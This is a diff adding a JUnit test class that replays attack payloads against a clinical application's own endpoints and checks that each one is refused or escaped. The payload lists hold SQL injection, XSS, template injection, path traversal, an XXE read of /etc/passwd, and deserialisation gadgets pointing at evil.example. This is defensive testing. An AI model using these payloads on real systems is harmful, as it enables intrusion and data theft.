@@ -1,0 +1,392 @@
+package org.spinecell.assurance;
+
+import java.net.URLEncoder;
+import java.net.http.HttpResponse;
+import java.nio.charset.StandardCharsets;
+import java.time.LocalDate;
+import java.util.ArrayList;
+import java.util.LinkedHashMap;
+import java.util.List;
+import java.util.Map;
+import java.util.Set;
+import java.util.TreeSet;
+
+import org.junit.jupiter.api.AfterAll;
+import org.junit.jupiter.api.Test;
+import org.spinecell.AssuranceReport;
+import org.spinecell.TestApi;
+
+import org.springframework.beans.factory.annotation.Autowired;
+import org.springframework.beans.factory.annotation.Qualifier;
+import org.springframework.web.bind.annotation.RequestMethod;
+import org.springframework.web.servlet.mvc.method.RequestMappingInfo;
+import org.springframework.web.servlet.mvc.method.annotation.RequestMappingHandlerMapping;
+import org.springframework.web.util.HtmlUtils;
+
+import static org.assertj.core.api.Assertions.assertThat;
+
+/**
+ * Replays the attacks seen against comparable clinical systems. Each payload must be refused (a 4xx,
+ * never a 5xx) or rendered inert, and must store nothing. Every attempt is counted; an accepted one
+ * is a payload that got a 5xx, changed data it should not have, or came back unescaped.
+ */
+class AttackReplayTests extends AssuranceTest {
+
+	static final List<String> SQL = List.of("' OR '1'='1", "x'; DROP TABLE patient; --", "1) OR (1=1",
+			"name; SELECT pg_sleep(5) --", "family_name DESC, (SELECT 1/0)", "\" UNION SELECT username FROM app_user --",
+			"%' AND 1=CAST((SELECT version()) AS int) --");
+
+	static final List<String> MARKUP = List.of("<script>alert(1)</script>", "\"><img src=x onerror=alert(1)>",
+			"</title><svg onload=alert(1)>", "javascript:alert(1)");
+
+	static final List<String> TEMPLATE = List.of("${7*7}", "__${7*7}__::x", "[[${7*7}]]", "*{T(java.lang.Runtime).getRuntime()}",
+			"#{7*7}", "@{//evil.example}");
+
+	private static final Tally TALLY = new Tally();
+
+	@Autowired
+	@Qualifier("requestMappingHandlerMapping")
+	RequestMappingHandlerMapping mappings;
+
+	@Test
+	void sqlThroughSearchSortAndFilterParametersIsInert() {
+		ActorClient doctor = ActorClient.signedIn(port, physician.token(), physicianUsername, USER_PASSWORD);
+		ActorClient labWeb = ActorClient.signedIn(port, lab.token(), labUsername, USER_PASSWORD);
+		ActorClient adminWeb = ActorClient.signedIn(port, admin.token(), "admin", ADMIN_PASSWORD);
+		long patients = count("patient");
+		long users = count("app_user");
+		int ownPatients = physician.get("/api/v1/patients").json().get("total").asInt();
+		for (String payload : SQL) {
+			String p = URLEncoder.encode(payload, StandardCharsets.UTF_8);
+			// A search or filter value matches nothing: the payload is a value, not SQL.
+			expectNothingFound("search", "GET /api/v1/patients?q", doctor.get("/api/v1/patients?q=" + p), "items");
+			expectNothingFound("filter", "GET /api/v1/cell-products?din", labWeb.get("/api/v1/cell-products?din=" + p),
+					"items");
+			expectNothingFound("filter", "GET /api/v1/audit?entityType", adminWeb.get("/api/v1/audit?entityType=" + p),
+					"items");
+			expectNothingFound("filter", "GET /api/v1/audit?user", adminWeb.get("/api/v1/audit?user=" + p), "items");
+			expectNothingFound("search", "GET /api/v1/codes/icd10?q", doctor.get("/api/v1/codes/icd10?q=" + p), "items");
+			// A sort value is either refused or ignored: the same patients, quickly.
+			long started = System.nanoTime();
+			HttpResponse<String> sorted = doctor.get("/api/v1/patients?sort=" + p);
+			long millis = (System.nanoTime() - started) / 1_000_000;
+			boolean sameRows = sorted.statusCode() == 200
+					&& json(sorted).get("total").asInt() == ownPatients;
+			TALLY.attempt("sql", payload, "GET /api/v1/patients?sort",
+					sorted.statusCode() >= 500 || millis > 4000 || (sorted.statusCode() == 200 && !sameRows));
+			for (String page : List.of("/patients?q=", "/patients?sort=", "/patients/codes?q=")) {
+				page(doctor, "sql", payload, page, p);
+			}
+			page(labWeb, "sql", payload, "/lab/find?din=", p);
+			page(labWeb, "sql", payload, "/lab?state=", p);
+			page(adminWeb, "sql", payload, "/audit?entityType=", p);
+			page(doctor, "sql", payload, "/follow-up?status=", p);
+		}
+		assertThat(count("patient")).isEqualTo(patients);
+		assertThat(count("app_user")).isEqualTo(users);
+		assertThat(TALLY.acceptedOf("sql")).as("SQL payloads that got through").isEmpty();
+	}
+
+	@Test
+	void markupAndTemplateSyntaxInNamesAndFreeTextComeBackEscaped() {
+		ActorClient doctor = ActorClient.signedIn(port, physician.token(), physicianUsername, USER_PASSWORD);
+		List<String> payloads = new ArrayList<>(MARKUP);
+		payloads.addAll(TEMPLATE);
+		for (String payload : payloads) {
+			TestApi.Response created = physician.post("/api/v1/patients", Map.of("clinicId", clinicId, "mrn",
+					"X-" + unique(), "givenName", payload, "familyName", payload + " Quinn", "birthDate", "1970-01-01",
+					"sex", "FEMALE"));
+			if (created.status() != 201) {
+				TALLY.attempt("markup", payload, "POST /api/v1/patients", created.status() >= 500);
+				continue;
+			}
+			String id = created.json().get("id").asString();
+			// Free text: a prior treatment's description and an adverse event's description and action.
+			TestApi.Response treatment = physician.post("/api/v1/patients/" + id + "/prior-treatments", Map.of("type",
+					"PHYSICAL_THERAPY", "description", payload, "startDate", LocalDate.now().minusMonths(3).toString(),
+					"response", "NONE"));
+			TALLY.attempt("markup", payload, "POST /api/v1/patients/{id}/prior-treatments", treatment.status() >= 500);
+			Map<String, Object> event = new LinkedHashMap<>();
+			event.put("patientId", id);
+			event.put("onset", LocalDate.now().minusDays(1).toString());
+			event.put("description", payload);
+			event.put("category", "Pain");
+			event.put("grade", 1);
+			event.put("relatednessProcedure", "UNRELATED");
+			event.put("expected", true);
+			event.put("action", payload);
+			event.put("outcome", "RECOVERING");
+			event.put("reporter", "CLINICIAN");
+			TestApi.Response ae = physician.post("/api/v1/adverse-events", event);
+			TALLY.attempt("markup", payload, "POST /api/v1/adverse-events", ae.status() >= 500);
+
+			String chart = doctor.get("/patients/" + id).body();
+			String list = doctor.get("/patients?q=" + URLEncoder.encode(payload, StandardCharsets.UTF_8)).body();
+			String escaped = HtmlUtils.htmlEscape(payload);
+			boolean chartInert = chart.contains(escaped) && (escaped.equals(payload) || !chart.contains(payload))
+					&& !chart.contains(">49<") && !chart.contains(" 49 Quinn");
+			boolean listInert = escaped.equals(payload) || !list.contains(payload);
+			TALLY.attempt("markup", payload, "GET /patients/{id}", !chartInert);
+			TALLY.attempt("markup", payload, "GET /patients?q", !listInert);
+			assertThat(chart).as("the chart shows the name %s as text", payload).contains(escaped);
+		}
+		assertThat(TALLY.acceptedOf("markup")).as("markup or template payloads rendered live").isEmpty();
+	}
+
+	@Test
+	void everyWebStateChangeWithoutACsrfTokenIsRefusedAndStoresNothing() {
+		Map<String, String> ids = recordsOfThisClinic();
+		ActorClient doctor = ActorClient.signedIn(port, physician.token(), physicianUsername, USER_PASSWORD);
+		ActorClient adminWeb = ActorClient.signedIn(port, admin.token(), "admin", ADMIN_PASSWORD);
+		ActorClient stranger = ActorClient.anonymous(port, null);
+		int tried = 0;
+		for (String endpoint : webStateChanges()) {
+			String path = AuthorisationMatrixTests.substitute(endpoint, ids);
+			ActorClient as = path.startsWith("/admin/") ? adminWeb : path.startsWith("/s/") ? stranger : doctor;
+			forgetRateLimits();
+			long audit = count("audit_event");
+			HttpResponse<String> response = as.form(path, Map.of("reason", "csrf test", "version", "0"), false);
+			boolean accepted = response.statusCode() != 403 || count("audit_event") != audit;
+			TALLY.attempt("csrf", "no CSRF token", endpoint, accepted);
+			tried++;
+		}
+		assertThat(tried).isGreaterThan(40);
+		assertThat(TALLY.acceptedOf("csrf")).as("web state changes accepted without a CSRF token").isEmpty();
+	}
+
+	@Test
+	void pathTricksOnThePublicSurveyLinksFindNothing() {
+		String token = link(baselineFollowUp());
+		ActorClient stranger = ActorClient.anonymous(port, null);
+		long responses = count("instrument_response");
+		List<String> tricks = List.of("/s/%2e%2e/admin/users", "/s/%2e%2e%2fadmin%2fusers", "/s/..%2f..%2fadmin%2fusers",
+				"/s/%252e%252e%252fadmin%252fusers", "/s/" + token + "%2f..%2f..%2fadmin%2fusers",
+				"/s/" + token + "/..;/..;/admin/users", "/s/" + token + ";jsessionid=0123456789ABCDEF",
+				"/s/;jsessionid=0123456789ABCDEF/" + token, "/s/" + token + "%00", "/s/" + token + "%2500",
+				"/s/" + "A".repeat(43), "/s/" + "A".repeat(5000), "/s/" + "A".repeat(20000),
+				"/s/" + token.substring(0, 42), "/s/" + token + "x", "/s/%20" + token, "/s/" + token.toUpperCase() + "Z",
+				"/s/" + token + "/%2e%2e/%2e%2e/audit", "/s/%C0%AE%C0%AE/admin/users", "/s/" + token + "/medicines/..%5c..%5caudit",
+				"/api/v1/surveys/%2e%2e/%2e%2e/users/responses", "/api/v1/surveys/" + "A".repeat(5000) + "/responses");
+		for (String trick : tricks) {
+			forgetRateLimits();
+			int status;
+			String body;
+			try {
+				HttpResponse<String> response = trick.startsWith("/api/")
+						? stranger.json("POST", trick, "{\"instrument\":\"nrs-back\",\"answers\":{\"nrs\":6}}")
+						: stranger.get(trick);
+				status = response.statusCode();
+				body = response.body();
+			}
+			catch (IllegalStateException ex) {
+				status = 400; // the client itself would not send it, or the server closed the connection
+				body = "";
+			}
+			boolean accepted = status >= 500 || (status >= 200 && status < 300)
+					|| body.contains("admin") && body.contains("users") && status < 400;
+			TALLY.attempt("path", trick.length() > 80 ? trick.substring(0, 80) + "…" : trick, "GET /s/{token}", accepted);
+		}
+		assertThat(count("instrument_response")).isEqualTo(responses);
+		// The untouched link still works, so the refusals above were about the tricks.
+		assertThat(stranger.get("/s/" + token).statusCode()).isEqualTo(200);
+		assertThat(TALLY.acceptedOf("path")).as("survey path tricks that got through").isEmpty();
+	}
+
+	@Test
+	void xmlAndPolymorphicTypeHintsAreRefusedByTheJsonEndpoints() {
+		String xxe = "<?xml version=\"1.0\"?><!DOCTYPE q [<!ENTITY e SYSTEM \"file:///etc/passwd\">]>"
+				+ "<Questionnaire><id value=\"&e;\"/></Questionnaire>";
+		Map<String, String> payloads = new LinkedHashMap<>();
+		payloads.put("xml-doctype", xxe);
+		payloads.put("json-class-hint", "{\"@class\":\"java.lang.ProcessBuilder\",\"command\":[\"id\"]}");
+		payloads.put("json-type-array", "[\"java.util.HashMap\",{\"resourceType\":\"Questionnaire\"}]");
+		payloads.put("json-spring-gadget", "{\"resourceType\":\"Questionnaire\",\"id\":\"evil\",\"@type\":"
+				+ "\"org.springframework.context.support.ClassPathXmlApplicationContext\",\"url\":\"http://evil.example/x.xml\"}");
+		payloads.put("json-doctype-in-string", "{\"resourceType\":\"Questionnaire\",\"id\":\"" + "x".repeat(3) + "\",\"text\":"
+				+ "{\"div\":\"<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]><div>&e;</div>\"}}");
+		payloads.put("java-serialised", "\u00ac\u00ed\u0000\u0005sr\u0000\u0011java.util.HashMap");
+		Map<String, TestApi> endpoints = new LinkedHashMap<>();
+		endpoints.put("/api/v1/instruments", admin);
+		endpoints.put("/api/v1/instruments/nrs-back/scoring-tables", admin);
+		endpoints.put("/api/v1/clinics", admin);
+		endpoints.put("/api/v1/patients", physician);
+		endpoints.put("/api/v1/adverse-events", physician);
+		long instruments = count("instrument");
+		long clinics = count("clinic");
+		long audit = count("audit_event");
+		for (Map.Entry<String, String> payload : payloads.entrySet()) {
+			for (Map.Entry<String, TestApi> endpoint : endpoints.entrySet()) {
+				for (String type : List.of("application/json", "application/xml", "application/x-java-serialized-object")) {
+					ActorClient caller = ActorClient.anonymous(port, endpoint.getValue().token());
+					HttpResponse<String> response = caller.raw("POST", endpoint.getKey(), type, payload.getValue());
+					boolean accepted = response.statusCode() >= 500 || response.statusCode() < 400
+							|| response.body().contains("root:");
+					TALLY.attempt("deserialisation", payload.getKey() + " as " + type, "POST " + endpoint.getKey(), accepted);
+				}
+			}
+		}
+		assertThat(count("instrument")).isEqualTo(instruments);
+		assertThat(count("clinic")).isEqualTo(clinics);
+		assertThat(count("audit_event")).isEqualTo(audit);
+		assertThat(TALLY.acceptedOf("deserialisation")).as("XML or type-hinted payloads accepted").isEmpty();
+	}
+
+	@Test
+	void oversizedAndDeeplyNestedJsonIsRefused() {
+		Map<String, String> payloads = new LinkedHashMap<>();
+		payloads.put("nested arrays x100000", "[".repeat(100_000) + "]".repeat(100_000));
+		payloads.put("nested objects x5000", "{\"a\":".repeat(5_000) + "1" + "}".repeat(5_000));
+		payloads.put("string of 3 MB", "{\"name\":\"" + "x".repeat(3 * 1024 * 1024) + "\"}");
+		payloads.put("number of 100000 digits", "{\"grade\":" + "9".repeat(100_000) + "}");
+		payloads.put("exponent 1e1000000", "{\"grade\":1e1000000}");
+		payloads.put("100000 keys", "{" + String.join(",", java.util.stream.IntStream.range(0, 100_000)
+			.mapToObj(i -> "\"k" + i + "\":1")
+			.toList()) + "}");
+		long audit = count("audit_event");
+		Map<String, TestApi> endpoints = new LinkedHashMap<>();
+		endpoints.put("/api/v1/patients", physician);
+		endpoints.put("/api/v1/adverse-events", physician);
+		endpoints.put("/api/v1/instruments", admin);
+		endpoints.put("/api/v1/auth/token", anonymous);
+		endpoints.put("/api/v1/surveys/" + "A".repeat(43) + "/responses", anonymous);
+		for (Map.Entry<String, String> payload : payloads.entrySet()) {
+			for (Map.Entry<String, TestApi> endpoint : endpoints.entrySet()) {
+				forgetRateLimits();
+				TestApi.Response response = endpoint.getValue().postRaw(endpoint.getKey(), payload.getValue());
+				boolean accepted = response.status() >= 500 || response.status() < 400;
+				TALLY.attempt("size", payload.getKey(), "POST " + endpoint.getKey().replaceAll("A{43}", "{token}"),
+						accepted);
+			}
+		}
+		assertThat(count("audit_event")).isEqualTo(audit);
+		assertThat(TALLY.acceptedOf("size")).as("oversized or nested payloads accepted").isEmpty();
+	}
+
+	@AfterAll
+	static void publish() {
+		String figure = TALLY.payloads() + " payloads × " + TALLY.endpoints() + " endpoints, " + TALLY.accepted().size()
+				+ " accepted";
+		Map<String, Object> figures = new LinkedHashMap<>();
+		figures.put("figure", figure);
+		figures.put("payloads", TALLY.payloads());
+		figures.put("endpoints", TALLY.endpoints());
+		figures.put("attempts", TALLY.attempts);
+		figures.put("accepted", TALLY.accepted());
+		figures.put("byClass", TALLY.byClass);
+		publish("attacks", figures, """
+				`AttackReplayTests` replays the bug classes seen in comparable clinical systems and counts
+				each payload sent to each endpoint. A payload is *accepted* (a failure) if it gets a 5xx,
+				a 2xx where it must be refused, changes rows it must not, or comes back unescaped.
+
+				| Class | Attempts |
+				| --- | --- |
+				%s
+
+				Latest run: **%s** (%d attempts). The classes: SQL through search, sort and filter
+				parameters of the API and the pages (results must match nothing, sorts must be refused or
+				ignored, `pg_sleep` must not delay); markup and Thymeleaf/SpEL syntax (`${...}`,
+				`__${...}__`, `[[...]]`) in patient names and free text (prior treatment, adverse event),
+				which the chart and the patient list must show escaped and unevaluated; every web state
+				change posted without a CSRF token (403, audit trail unchanged); path tricks on the
+				public survey links (`%%2e%%2e`, double encoding, overlong UTF-8, `;jsessionid`, NUL,
+				overlong tokens); XML with a DOCTYPE, Java-serialised bodies and polymorphic type hints
+				(`@class`, `@type`, `["java.util.HashMap", …]`) posted to the JSON endpoints, including
+				the instrument import; oversized and deeply nested JSON. IDOR on every id-taking
+				endpoint, exports included (labels, letters, notes), is covered by the authorisation
+				matrix above.
+
+				Not covered: SpineCell has no file upload yet, so there are no file names to attack; the
+				payload lists are fixed, not generated (see the fuzz tests for generated input).
+				""".formatted(TALLY.table(), figure, TALLY.attempts));
+	}
+
+	private void expectNothingFound(String kind, String endpoint, HttpResponse<String> response, String field) {
+		boolean accepted;
+		if (response.statusCode() == 200) {
+			accepted = json(response).get(field).size() != 0;
+		}
+		else {
+			accepted = response.statusCode() >= 500 || response.statusCode() < 400;
+		}
+		TALLY.attempt("sql", kind + ": " + response.uri().getRawQuery(), endpoint, accepted);
+	}
+
+	private static void page(ActorClient as, String kind, String payload, String page, String encoded) {
+		HttpResponse<String> response = as.get(page + encoded);
+		boolean accepted = response.statusCode() >= 500 || response.body().contains("SQLState")
+				|| response.body().contains("PSQLException") || response.body().contains("Exception");
+		TALLY.attempt(kind, payload, "GET " + page.substring(0, page.indexOf('?') + 1) + page.substring(page.indexOf('?') + 1,
+				page.length() - 1), accepted);
+	}
+
+	/** Every POST of the pages, from the handler mappings. */
+	private List<String> webStateChanges() {
+		Set<String> all = new TreeSet<>();
+		for (RequestMappingInfo info : mappings.getHandlerMethods().keySet()) {
+			for (String pattern : info.getPatternValues()) {
+				for (RequestMethod method : info.getMethodsCondition().getMethods()) {
+					if (method != RequestMethod.GET && !pattern.startsWith("/api/")) {
+						all.add(method.name() + " " + pattern);
+					}
+				}
+			}
+		}
+		return List.copyOf(all);
+	}
+
+	private long count(String table) {
+		return ownerJdbc().sql("SELECT count(*) FROM " + table).query(Long.class).single();
+	}
+
+	private static tools.jackson.databind.JsonNode json(HttpResponse<String> response) {
+		return new TestApi.Response(response.statusCode(), response.body(), response).json();
+	}
+
+	/** The count of attempts: payloads, endpoints, and the accepted ones. */
+	static final class Tally {
+
+		private final Set<String> payloads = new TreeSet<>();
+
+		private final Set<String> endpoints = new TreeSet<>();
+
+		private final List<String> accepted = new ArrayList<>();
+
+		private final Map<String, Integer> byClass = new LinkedHashMap<>();
+
+		private int attempts;
+
+		synchronized void attempt(String kind, String payload, String endpoint, boolean wasAccepted) {
+			payloads.add(kind + ":" + payload);
+			endpoints.add(endpoint);
+			byClass.merge(kind, 1, Integer::sum);
+			attempts++;
+			if (wasAccepted) {
+				accepted.add(kind + " | " + payload + " | " + endpoint);
+			}
+		}
+
+		synchronized List<String> acceptedOf(String kind) {
+			return accepted.stream().filter(a -> a.startsWith(kind + " |")).toList();
+		}
+
+		synchronized List<String> accepted() {
+			return List.copyOf(accepted);
+		}
+
+		int payloads() {
+			return payloads.size();
+		}
+
+		int endpoints() {
+			return endpoints.size();
+		}
+
+		String table() {
+			StringBuilder rows = new StringBuilder();
+			byClass.forEach((kind, n) -> rows.append("| ").append(kind).append(" | ").append(n).append(" |\n"));
+			return rows.toString().strip();
+		}
+
+	}
+
+}
